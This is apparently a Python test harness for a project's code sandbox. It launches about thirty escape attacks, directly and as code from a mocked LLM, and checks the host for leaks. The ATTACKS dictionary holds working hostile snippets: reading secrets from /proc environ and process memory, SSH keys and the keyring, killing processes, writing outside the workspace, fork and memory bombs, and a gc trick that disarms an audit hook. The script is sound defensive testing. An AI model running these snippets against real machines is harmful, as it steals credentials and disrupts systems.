"""Hostile code against the sandbox: the attacks of issue 13 and the host-side checks.

Run as a script by tests/test_sandbox_attacks.py, once as the user running the tests (root in
CI) and once as an unprivileged user (`runuser -u tester` or `setpriv`), so that both ways
bubblewrap is used are attacked:

    python tests/sandbox_attacks.py run_code REPORT.json
    python tests/sandbox_attacks.py flow REPORT.json

The process plays the user's kernel: it has an API key in its initial environment (what
/proc/<pid>/environ shows) and another one given only to `flowmagic.configure()` (in its
memory only); a home with planted secrets (~/.ssh/id_rsa, a project .env, the store
~/.flowmagic/flowmagic.db, a response cache); a directory outside the workspace that must
stay as it is; a second process of the same user that must stay alive; a listening TCP,
Unix and abstract socket that must never be reached. Every attack's code raises when it is
blocked, so through a Flow every node fails; what got through is found by the checks, never
by trusting what the code printed. The report is JSON: per attack, the escapes found (an
empty list when the sandbox held) and the last line of the code's error (what stopped it).
"""

from __future__ import annotations

import hashlib
import json
import os
import secrets as _random
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time

MARK = "fmattack" + _random.token_hex(4)   # in the command line of every process an attack starts
_ENV_KEY = os.environ.get("FLOWMAGIC_API_KEY", "")
# in the initial environment (the script re-executes itself to put it there, see the end)
KEY = _ENV_KEY if _ENV_KEY.startswith("sk-envkey-") else "sk-" + "envkey-" + _random.token_hex(16)
MEMORY_KEY = "sk-" + "memkey-" + _random.token_hex(16)  # given to configure() only

# A payload that a process started by an attack runs: it reads secrets, writes outside,
# signals the "kernel" and prints whatever it found in hex (so no scrubbing hides it).
PAYLOAD = """
import os, sys, signal
found = []
for path in {readable!r}:
    try:
        found.append(open(path, 'rb').read().hex())
    except OSError as exc:
        found.append(type(exc).__name__)
for path in {writable!r}:
    try:
        open(path, 'w').write('pwned')
    except OSError as exc:
        found.append(type(exc).__name__)
for pid in ({parent}, {victim}):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as exc:
        found.append(type(exc).__name__)
print(' '.join(found))
"""

ATTACKS: dict[str, str] = {
    # -- process creation, by every route: the process must stay in the sandbox
    "os.system": "import os, sys\nrc = os.system(f'{{sys.executable}} payload.py {mark}')\n"
                 "raise SystemExit(f'os.system ran, status {{rc}}')",
    "subprocess": "import subprocess, sys\n"
                  "out = subprocess.run([sys.executable, 'payload.py', '{mark}'], capture_output=True,"
                  " text=True)\nraise SystemExit('subprocess ran: ' + out.stdout + out.stderr)",
    "_posixsubprocess.fork_exec": (
        "import _posixsubprocess, os, sys\n"
        "args = [sys.executable, 'payload.py', '{mark}']\n"
        "r, w = os.pipe()\n"
        "common = (args, [os.fsencode(sys.executable)], True, (), None, None,"
        " -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None)\n"
        "try:  # the argument list grew in 3.11 and 3.12\n"
        "    pid = _posixsubprocess.fork_exec(*common, False)\n"
        "except TypeError:\n"
        "    pid = _posixsubprocess.fork_exec(*common)\n"
        "os.waitpid(pid, 0)\nraise SystemExit('fork_exec ran the payload')"),
    "os.fork + exec": "import os, sys\npid = os.fork()\nif pid == 0:\n"
                      "    os.execv(sys.executable, [sys.executable, 'payload.py', '{mark}'])\n"
                      "os.waitpid(pid, 0)\nraise SystemExit('forked')",
    "os.posix_spawn": "import os, sys\npid = os.posix_spawn(sys.executable, [sys.executable, "
                      "'payload.py', '{mark}'], {{}})\nos.waitpid(pid, 0)\n"
                      "raise SystemExit('spawned')",
    "ctypes system()": "import ctypes, sys\nlibc = ctypes.CDLL(None)\n"
                       "rc = libc.system(f'{{sys.executable}} payload.py {mark}'.encode())\n"
                       "raise SystemExit(f'libc.system ran, status {{rc}}')",
    "ctypes fork via a raw function pointer": (
        "import ctypes, sys, os\nlibc = ctypes.CDLL(None)\n"
        "addr = ctypes.cast(libc.fork, ctypes.c_void_p).value\n"
        "fork = ctypes.CFUNCTYPE(ctypes.c_int)(addr)\npid = fork()\nif pid == 0:\n"
        "    os.execv(sys.executable, [sys.executable, 'payload.py', '{mark}'])\n"
        "os.waitpid(pid, 0)\nraise SystemExit('raw fork ran')"),
    "cffi system()": "import sys\ntry:\n    import cffi\nexcept ImportError:\n"
                     "    raise SystemExit('cffi is not importable here')\n"
                     "ffi = cffi.FFI(); ffi.cdef('int system(const char *);')\n"
                     "rc = ffi.dlopen(None).system(f'{{sys.executable}} payload.py {mark}'.encode())\n"
                     "raise SystemExit(f'cffi system ran, status {{rc}}')",
    # -- the parent's environment and memory, and other processes
    "parent /proc environ": (
        "import os\nfound = []\nfor pid in {{os.getppid(), {parent}, 1}}:\n"
        "    try:\n        found.append(open(f'/proc/{{pid}}/environ', 'rb').read().hex())\n"
        "    except OSError as exc:\n        found.append(repr(exc))\n"
        "raise SystemExit(' '.join(found))"),
    "every /proc/*/environ": (
        "import os\nfound = []\nfor pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    try:\n        env = open(f'/proc/{{pid}}/environ', 'rb').read().split(b'\\0')\n"
        "    except OSError:\n        continue\n"
        "    found += [v.hex() for v in env if b'KEY' in v]\n"
        "raise SystemExit('read: ' + ' '.join(found))"),
    "parent /proc mem": (
        "import os, re\nfound = []\nfor pid in ({parent}, os.getppid()):\n    try:\n"
        "        maps = open(f'/proc/{{pid}}/maps').read().splitlines()\n"
        "        mem = open(f'/proc/{{pid}}/mem', 'rb')\n"
        "        for line in maps:\n            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "            if 'rw' in line.split()[1] and hi - lo < 1 << 26:\n"
        "                mem.seek(lo)\n                chunk = mem.read(hi - lo)\n"
        "                found += [m.hex() for m in re.findall(rb'sk-[a-z]+-[0-9a-f]{{32}}', chunk)]\n"
        "    except (OSError, ValueError) as exc:\n        found.append(repr(exc))\n"
        "raise SystemExit(' '.join(found))"),
    # -- planted secrets in the user's home and project
    "planted secrets by path": (
        "found = []\nfor path in {secret_paths!r}:\n    try:\n"
        "        found.append(open(path, 'rb').read().hex())\n"
        "    except OSError as exc:\n        found.append(repr(exc))\nraise SystemExit(' '.join(found))"),
    "planted secrets by search": (
        "import os\nfound = []\nfor top in ('/home', '/root/.ssh', {home!r}, os.path.expanduser('~')):\n"
        "    for dirpath, _, names in os.walk(top):\n        for name in names:\n"
        "            if name in ('id_rsa', '.env', 'flowmagic.db', 'cache.db'):\n"
        "                try:\n                    found.append(open(os.path.join(dirpath, name), 'rb').read().hex())\n"
        "                except OSError:\n                    pass\n"
        "raise SystemExit('found: ' + ' '.join(found))"),
    "kernel keyring": (
        "import ctypes, platform\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "keyctl = {{'x86_64': 250, 'aarch64': 219}}[platform.machine()]\n"
        "buf = ctypes.create_string_buffer(200)\nfound = []\n"
        "for key in ({key_id}, ctypes.c_int(-3), ctypes.c_int(-4)):   # the key, @s, @u\n"
        "    n = libc.syscall(keyctl, 11, key, buf, 200)   # KEYCTL_READ\n"
        "    found.append(buf.raw[:n].hex() if n >= 0 else f'errno {{ctypes.get_errno()}}')\n"
        "    if n > 0 and key is not {key_id}:   # a keyring: read each key it holds\n"
        "        for i in range(0, n, 4):\n"
        "            serial = int.from_bytes(buf.raw[i:i + 4], 'little', signed=True)\n"
        "            inner = ctypes.create_string_buffer(200)\n"
        "            m = libc.syscall(keyctl, 11, serial, inner, 200)\n"
        "            found.append(inner.raw[:m].hex() if m > 0 else 'unreadable')\n"
        "raise SystemExit(' '.join(found))"),
    # -- signalling the parent (the kernel) and another process of the user
    "kill the parent": (
        "import os, signal\nerrors = []\nfor pid in ({parent}, {victim}):\n"
        "    for how in (lambda: os.kill(pid, signal.SIGKILL), lambda: os.killpg(pid, signal.SIGKILL),\n"
        "                lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)):\n"
        "        try:\n            how()\n        except OSError as exc:\n            errors.append(repr(exc))\n"
        "raise SystemExit(' '.join(errors))"),
    # signal 0 only asks whether any process could be signalled: a broken sandbox must not
    # get to kill every process of the machine while this test finds out. In a flow's Python
    # session the code can signal that session's own interpreters (its sandbox's, as it can
    # signal itself): any other process it reaches is a way out.
    "signal every process": (
        "import os\nos.kill(-1, 0)\nreached = []\n"
        "for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
        "    try:\n        os.kill(int(pid), 0)\n"
        "        line = open(f'/proc/{{pid}}/cmdline', 'rb').read()\n"
        "    except OSError:\n        continue\n"
        "    if line.split(b'\\0')[-2:-1] != [b'/run/flowmagic/config.json']:\n"
        "        reached.append(line[:80])\n"
        "if reached:\n    print('ESC' 'APED: kill(-1) reaches processes', reached)\n"
        "raise SystemExit('kill(-1) reached only the session of this sandbox')"),
    # -- writes outside the workspace
    "write outside": (
        "import os\nerrors = []\nfor path in ({outside!r} + '/x', {host_tmp!r}, '/usr/x', {input_dir!r} + '/x',\n"
        "             os.path.expanduser('~/../x')):\n"
        "    try:\n        open(path, 'w').write('pwned')\n"
        "    except OSError as exc:\n        errors.append(repr(exc))\nraise SystemExit(' '.join(errors))"),
    "sqlite URI": "import sqlite3\ncon = sqlite3.connect('file:{cache_db}?mode=rw', uri=True)\n"
                  "con.execute(\"update cache set reply = 'attacker'\")\ncon.commit()\n"
                  "raise SystemExit('rewrote the cache')",
    "sqlite ATTACH": "import sqlite3\ncon = sqlite3.connect(':memory:')\n"
                     "con.execute(\"attach database '{cache_db}' as c\")\n"
                     "con.execute(\"update c.cache set reply = 'attacker'\")\ncon.commit()\n"
                     "raise SystemExit('rewrote the cache through ATTACH')",
    "sqlite VACUUM INTO": "import sqlite3\ncon = sqlite3.connect('mine.db')\n"
                          "con.execute('create table cache (key, reply)')\n"
                          "con.execute(\"insert into cache values ('k', 'attacker')\")\ncon.commit()\n"
                          "con.execute(\"vacuum into '{outside}/vacuumed.db'\")\n"
                          "raise SystemExit('vacuumed outside')",
    "readline history": "import readline\nreadline.add_history('pwned')\n"
                        "readline.write_history_file({outside!r} + '/history')\n"
                        "raise SystemExit('wrote a history file outside')",
    "xattr": "import os\nerrors = []\nfor path in ({keep!r}, {input_file!r}):\n    try:\n"
             "        os.setxattr(path, 'user.pwned', b'1')\n"
             "    except OSError as exc:\n        errors.append(repr(exc))\nraise SystemExit(' '.join(errors))",
    "fchmod": "import os\nerrors = []\nfor path in ({keep!r}, {input_file!r}, '/usr/bin/env'):\n"
              "    try:\n        os.fchmod(os.open(path, os.O_RDONLY), 0o777)\n"
              "    except OSError as exc:\n        errors.append(repr(exc))\nraise SystemExit(' '.join(errors))",
    "unix socket bind": (
        "import socket\nerrors = []\nfor address in ({outside!r} + '/sock', {host_socket!r}, {abstract!r}):\n"
        "    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(address)\n"
        "        s.sendall(b'pwned')\n        errors.append('connected to ' + repr(address))\n"
        "    except OSError as exc:\n        errors.append(repr(exc))\n"
        "s = socket.socket(socket.AF_UNIX)\ntry:\n    s.bind({outside!r} + '/bound')\n"
        "except OSError as exc:\n    errors.append(repr(exc))\nraise SystemExit(' '.join(errors))"),
    "network": "import socket\ns = socket.socket()\ns.settimeout(2)\ns.connect(('127.0.0.1', {port}))\n"
               "s.sendall(b'pwned')\nraise SystemExit('connected')",
    "device node": (
        "import ctypes, os, stat\nos.mknod('mem', stat.S_IFCHR | 0o600, os.makedev(1, 1))\n"
        "if not os.path.exists('mem'):\n"
        "    ctypes.CDLL(None).mknod(b'mem', stat.S_IFCHR | 0o600, os.makedev(1, 1))\n"
        "if os.path.exists('mem'):\n    print('ESC' 'APED: made the device node of /dev/mem')\n"
        "raise SystemExit('mknod did nothing')"),
    # -- outliving the timeout, and exhausting the machine
    "setsid child outlives the timeout": (
        "import subprocess, sys, time\n"
        "late = f\"import time; time.sleep(1.5); open({outside!r} + '/late', 'w'); open('late', 'w')\"\n"
        "subprocess.Popen([sys.executable, '-c', late, '{mark}'], start_new_session=True)\n"
        "import os\nif os.fork() == 0:\n    os.setsid()\n"
        "    os.execv(sys.executable, [sys.executable, '-c', late, '{mark}'])\n"
        "while True:\n    time.sleep(0.1)"),
    "fork bomb": (
        "import os, time\nn = 0\ntry:\n    while n < 400:\n        if os.fork() == 0:\n"
        "            time.sleep(30)\n            os._exit(0)\n        n += 1\n"
        "except OSError as exc:\n    error = repr(exc)\n"
        "if n >= 400:\n    print('ESC' 'APED: 400 processes and counting')\n"
        "raise SystemExit(f'{{n}} processes, then {{error}}')"),
    "memory bomb": (
        "import os\nheld, tmpfs, blocks = 0, 0, []\ntry:\n    while held < 4096:\n"
        "        blocks.append(bytearray(64 << 20))\n        held += 64\nexcept MemoryError:\n    pass\n"
        "del blocks\nerror = None\nfor d in ('/dev/shm', '/tmp'):\n    try:\n        for i in range(64):\n"
        "            with open(f'{{d}}/{mark}-{{i}}', 'wb') as fh:\n                fh.write(b'x' * (8 << 20))\n"
        "            tmpfs += 8\n    except OSError as exc:\n        error = repr(exc)\n"
        "if held >= 4096 or tmpfs >= 1024:\n    print('ESC' f'APED: {{held}} MB of memory, {{tmpfs}} MB in tmpfs')\n"
        "raise SystemExit(f'{{held}} MB of memory, {{tmpfs}} MB in /dev/shm and /tmp, then {{error}}')"),
    "endless output": (
        "import resource, sys\ntry:\n    resource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1))\n"
        "except (OSError, ValueError):\n    pass\nwhile True:\n    sys.stdout.write('x' * 65536)"),
}
TIMEOUTS = {"setsid child outlives the timeout": 1.0, "endless output": 3.0}
CONTAINED = {"os.system", "subprocess", "_posixsubprocess.fork_exec", "os.fork + exec",
             "os.posix_spawn", "ctypes system()", "ctypes fork via a raw function pointer",
             "cffi system()"}
# Code that fences written in Python (the sandbox before bubblewrap) cannot stop: it finds the
# audit hook's refusing function through the garbage collector and makes it do nothing. Every
# attack starts with it; under bubblewrap it finds nothing to disarm.
DISARM = ("import gc\nfor _f in gc.get_objects():\n"
          "    if type(_f) is type(gc.collect) or not callable(_f):\n        continue\n"
          "    if getattr(_f, '__name__', '') == 'refuse' and hasattr(_f, '__code__'):\n"
          "        _f.__code__ = (lambda *a, **k: None).__code__\n")


def _digest(path: str) -> str:
    with open(path, "rb") as fh:
        return hashlib.sha256(fh.read()).hexdigest()


def _plant_key(secrets: dict) -> int:
    """A secret in this process's session keyring (where credential helpers keep keys)."""
    import ctypes
    import platform
    add_key = {"x86_64": 248, "aarch64": 217}.get(platform.machine())
    if add_key is None:
        return -1
    value = "keyring-" + _random.token_hex(12)
    libc = ctypes.CDLL(None, use_errno=True)
    serial = libc.syscall(add_key, b"user", MARK.encode(), value.encode(), len(value),
                          ctypes.c_int(-3))   # KEY_SPEC_SESSION_KEYRING
    if serial > 0:
        secrets["keyring key"] = value
    return serial


class Host:
    """What the attacks go for, and the checks that they did not get it."""

    def __init__(self, root: str):
        self.root = root
        self.home = os.path.join(root, "home")
        self.project = os.path.join(self.home, "project")
        self.outside = os.path.join(root, "outside")
        self.inputs = os.path.join(root, "inputs")
        self.host_tmp = os.path.join(tempfile.gettempdir(), MARK + "host-tmp")
        for d in (self.project, self.outside, self.inputs, os.path.join(self.home, ".ssh"),
                  os.path.join(self.home, ".flowmagic")):
            os.makedirs(d, exist_ok=True)
        self.secrets = {"the environment key": KEY, "the configured key": MEMORY_KEY}
        self.planted = {}
        for rel, label in ((".ssh/id_rsa", "ssh key"), ("project/.env", "project .env"),
                           (".env", "home .env")):
            value = f"{label.replace(' ', '-')}-{_random.token_hex(12)}"
            self._write(os.path.join(self.home, rel), f"SECRET={value}\n")
            self.secrets[label] = value
        self.store = os.path.join(self.home, ".flowmagic", "flowmagic.db")
        self.cache_db = os.path.join(self.home, ".flowmagic", "cache.db")
        for db, label in ((self.store, "store prompt"), (self.cache_db, "cached reply")):
            value = f"{label.replace(' ', '-')}-{_random.token_hex(12)}"
            con = sqlite3.connect(db)
            con.execute("create table cache (key, reply)")
            con.execute("insert into cache values (?, ?)", ("k", value))
            con.commit()
            con.close()
            self.secrets[label] = value
        self.key_id = _plant_key(self.secrets)
        self.keep = os.path.join(self.outside, "keep.txt")
        self._write(self.keep, "keep me")
        self.input_file = os.path.join(self.inputs, "data.csv")
        self._write(self.input_file, "x,y\n1,2\n")
        self.victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.setblocking(False)
        self.host_socket = os.path.join(root, "host.sock")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.host_socket)
        self.abstract = "\0" + MARK
        self.abstract_sock = socket.socket(socket.AF_UNIX)
        self.abstract_sock.bind(self.abstract)
        for s in (self.unix, self.abstract_sock):
            s.listen()
            s.setblocking(False)
        self.baseline = self._state()

    @staticmethod
    def _write(path: str, text: str) -> None:
        with open(path, "w") as fh:
            fh.write(text)

    def _state(self) -> dict:
        watched = [self.keep, self.input_file, self.store, self.cache_db,
                   *[os.path.join(self.home, p) for p in (".ssh/id_rsa", "project/.env", ".env")]]
        return {"outside": sorted(os.listdir(self.outside)), "inputs": sorted(os.listdir(self.inputs)),
                "digests": {p: _digest(p) for p in watched},
                "modes": {p: os.stat(p).st_mode for p in watched},
                "xattrs": {p: os.listxattr(p) for p in (self.keep, self.input_file)}}

    def fields(self, workdir: str) -> dict:
        return {"mark": MARK, "parent": os.getpid(), "key_id": self.key_id, "victim": self.victim.pid, "home": self.home,
                "outside": self.outside, "host_tmp": self.host_tmp, "input_dir": self.inputs,
                "input_file": self.input_file, "keep": self.keep, "cache_db": self.cache_db,
                "secret_paths": [os.path.join(self.home, p) for p in
                                 (".ssh/id_rsa", ".env", "project/.env", ".flowmagic/flowmagic.db")],
                "host_socket": self.host_socket, "abstract": self.abstract,
                "port": self.tcp.getsockname()[1], "workdir": workdir}

    def payload(self, workdir: str) -> str:
        f = self.fields(workdir)
        return PAYLOAD.format(readable=f["secret_paths"] + [f"/proc/{f['parent']}/environ"],
                              writable=[f["outside"] + "/pwned", f["host_tmp"]],
                              parent=f["parent"], victim=f["victim"])

    def _leftovers(self) -> list[str]:
        found = []
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    if MARK.encode() in fh.read():
                        found.append(pid)
            except OSError:
                pass
        return found

    def _connections(self) -> list[str]:
        got = []
        for name, sock in (("TCP", self.tcp), ("Unix", self.unix), ("abstract Unix", self.abstract_sock)):
            try:
                conn, _ = sock.accept()
                conn.close()
                got.append(f"a {name} connection reached the host")
            except BlockingIOError:
                pass
        return got

    def escapes(self, texts: list[str], workdir: str | None, wait: float = 0.0) -> list[str]:
        """Everything that got out, found on the host (not from what the code said)."""
        if wait:
            time.sleep(wait)
        found = []
        blob = "\n".join(texts)
        if "ESCAPED" in blob:
            found.append("the code says it got through: " + blob[blob.index("ESCAPED"):][:120])
        for label, secret in self.secrets.items():
            for form in (secret, secret.encode().hex(), secret[::-1]):
                if form in blob:
                    found.append(f"{label} reached the output")
                    break
        state = self._state()
        for key in ("outside", "inputs", "digests", "modes", "xattrs"):
            if state[key] != self.baseline[key]:
                found.append(f"{key} changed: {state[key]}")
        if os.path.exists(self.host_tmp):
            found.append("a file appeared in the host's /tmp")
        for shared in ("/dev/shm", tempfile.gettempdir()):
            spilled = [n for n in os.listdir(shared) if n.startswith(MARK + "-")]
            for name in spilled:
                os.unlink(os.path.join(shared, name))
            if spilled:
                found.append(f"{len(spilled)} files filled the host's {shared}")
        if workdir and os.path.exists(os.path.join(workdir, "late")):
            found.append("a process outlived the timeout and wrote to the workspace")
        if self.victim.poll() is not None:
            found.append("another process of the user was killed")
            self.victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
        leftovers = self._leftovers()
        if leftovers:
            found.append(f"processes outlived the sandbox: {leftovers}")
        found += self._connections()
        return found

    def close(self) -> None:
        self.victim.kill()
        self.victim.wait()
        for s in (self.tcp, self.unix, self.abstract_sock):
            s.close()


def _last_line(text: str) -> str:
    lines = [ln for ln in text.strip().splitlines() if ln.strip()]
    return lines[-1][:300] if lines else ""


def attack_code(name: str, host: Host, workdir: str) -> str:
    """The attack's code; the process routes first write the payload their process runs."""
    code = DISARM + ATTACKS[name].format(**host.fields(workdir))
    if name in CONTAINED:
        code = f"open('payload.py', 'w').write({host.payload(workdir)!r})\n" + code
    return code


def run_attacks(host: Host, names: list[str]) -> dict:
    from flowmagic.engine.sandbox import run_code
    report = {}
    for name in names:
        workdir = tempfile.mkdtemp(prefix="fm-attack-ws-", dir=host.root)
        started = time.monotonic()
        result = run_code(attack_code(name, host, workdir), workdir=workdir,
                          inputs=[host.inputs], timeout=TIMEOUTS.get(name, 5.0),
                          max_processes=32, memory_mb=256, site_packages=name == "cffi system()")
        wait = 1.2 if name == "setsid child outlives the timeout" else 0.1
        escapes = host.escapes([result.stdout, result.stderr], workdir, wait)
        report[name] = {"escapes": escapes, "ok": result.ok, "stage": result.stage,
                        "stopped_by": _last_line(result.stderr) or result.error()[:300],
                        "duration_s": round(time.monotonic() - started, 2),
                        "stdout_chars": len(result.stdout)}
    return report


def run_flow(host: Host, names: list[str]) -> dict:
    """The attacks as the code of a Flow's nodes (validate='llm', a judge that passes all)."""
    import re

    import flowmagic
    from flowmagic.flow import Flow
    from flowmagic.llm import LLM
    from flowmagic.testing.loopback import LoopbackServer

    ids = {f"n{i}": name for i, name in enumerate(names)}
    workdir = tempfile.mkdtemp(prefix="fm-attack-flow-", dir=host.root)

    def responder(body: dict) -> str:
        if "strict reviewer" in body["messages"][0]["content"]:
            return json.dumps({"verdict": "pass", "feedback": "looks fine"})
        node = re.search(r"Your subtask \((\w+)\)", body["messages"][-1]["content"]).group(1)
        return f"Here is the code:\n\n```python\n{attack_code(ids[node], host, workdir)}\n```\n"

    plan = {"nodes": [{"id": i, "requirement": f"write Python for {n}"} for i, n in ids.items()],
            "edges": []}
    with LoopbackServer(responder=responder, model="m") as server:
        flowmagic.configure(base_url=server.base_url, model="m", api_key=MEMORY_KEY)
        flow = Flow.from_dict(plan, task="write small programs", validate="llm",
                              max_attempts=1, update="off", consolidate=False, concurrency=2,
                              code_timeout=3.0, llm=LLM(backoff_base=0.01)).run()
        sent = [json.dumps(r.get("body")) for r in server.requests]
    stored = []
    for dirpath, _, files in os.walk(os.environ["FLOWMAGIC_HOME"]):
        for name in files:
            with open(os.path.join(dirpath, name), "rb") as fh:
                stored.append(fh.read().decode("utf-8", "replace"))
    state = json.dumps(flow.workflow.to_dict())
    escapes = host.escapes(sent + stored + [state], workdir, wait=1.5)
    nodes = {}
    for node_id, name in ids.items():
        node = flow.workflow.nodes[node_id]
        nodes[name] = {"status": node.status, "error": node.error or ""}
    return {"escapes": escapes, "nodes": nodes, "kernel_alive": True,
            "requests": len(server.requests)}


def main(argv: list[str]) -> int:
    mode, out = argv[0], argv[1]
    names = argv[2:] or list(ATTACKS)
    root = tempfile.mkdtemp(prefix="fm-attacks-")
    os.environ["HOME"] = os.path.join(root, "home")
    os.environ["FLOWMAGIC_HOME"] = os.path.join(root, "store")   # the run's; ~/.flowmagic is a decoy
    host = Host(root)
    import flowmagic
    flowmagic.configure(name="other", base_url="http://127.0.0.1:9/v1", api_key=MEMORY_KEY)
    try:
        report = run_attacks(host, names) if mode == "run_code" else run_flow(host, names)
    finally:
        host.close()
    report = {"uid": os.getuid(), "mode": mode, "attacks": report}
    with open(out, "w") as fh:
        json.dump(report, fh, indent=1)
    return 0


if __name__ == "__main__":
    if _ENV_KEY != KEY:
        # Re-exec with the key in the *initial* environment: that is what /proc/<pid>/environ shows.
        os.execve(sys.executable, [sys.executable, *sys.argv], {**os.environ, "FLOWMAGIC_API_KEY": KEY})
    sys.exit(main(sys.argv[1:]))
